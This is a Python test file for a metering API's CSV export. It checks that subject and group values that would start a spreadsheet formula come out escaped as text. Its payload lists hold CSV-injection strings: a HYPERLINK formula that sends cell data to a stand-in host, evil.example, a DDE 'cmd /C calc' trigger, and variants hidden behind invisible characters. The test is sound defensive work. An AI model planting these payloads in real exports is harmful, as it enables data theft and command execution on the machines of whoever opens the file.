"""CSV answers: a caller's text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from testkit.client import event

pytestmark = pytest.mark.servers

# Each would start a formula (or be swallowed) in a spreadsheet (OWASP "CSV injection").
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]
# Past OWASP's list: a line feed, "|", and a trigger behind what a reader may skip first
# (white space of any kind, controls, invisible format characters).
FORMULAS_TOO = [
    "\n=1+1",
    "|calc",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2028=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x1f=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    " \t -1",
]
HARMLESS = ["acme", "x=1", "1-2", " leading space", "\u00a0nbsp"]


@pytest.fixture
def meter(client, uid):
    slug = f"csv_{uid}"
    client.create_meter(slug=slug, eventType=f"t_{uid}", aggregation="SUM", valueProperty="$.v", groupBy={"g": "$.g"})
    texts = FORMULAS + FORMULAS_TOO + HARMLESS
    client.ingest(
        [
            event(f"{uid}-{i}", f"t_{uid}", text, time="2024-05-01T10:00:00Z", data={"v": -5 - i, "g": texts[-1 - i]})
            for i, text in enumerate(texts)
        ]
    )
    client.query_until(slug, lambda a: len(a["data"]) == len(texts), groupBy=["subject", "g"])
    return slug


def csv_rows(client, slug: str) -> list[dict]:
    response = client.http.get(
        f"/api/v1/meters/{slug}/query",
        params=[("groupBy", "subject"), ("groupBy", "g")],
        headers={"accept": "text/csv"},
    )
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_formula_starts_in_subjects_and_group_values_are_written_as_text(client, meter):
    rows = csv_rows(client, meter)
    cells = {row["subject"] for row in rows} | {row["g"] for row in rows}
    for text in FORMULAS + FORMULAS_TOO:
        assert f"'{text}" in cells, f"{text!r} not escaped: {sorted(cells)}"
        assert text not in cells
    for text in HARMLESS:
        assert text in cells


def test_values_stay_numbers_even_when_negative(client, meter):
    rows = csv_rows(client, meter)
    values = sorted(float(row["value"]) for row in rows)  # "-5.000000" is a number, not a formula
    assert values == sorted(float(-5 - i) for i in range(len(FORMULAS + FORMULAS_TOO + HARMLESS)))
    assert all(not row["window_start"].startswith("'") for row in rows)


def test_json_answers_keep_the_text_as_it_came(client, meter):
    data = client.query(meter, groupBy=["subject", "g"])["data"]
    assert set(FORMULAS) <= {row["subject"] for row in data}
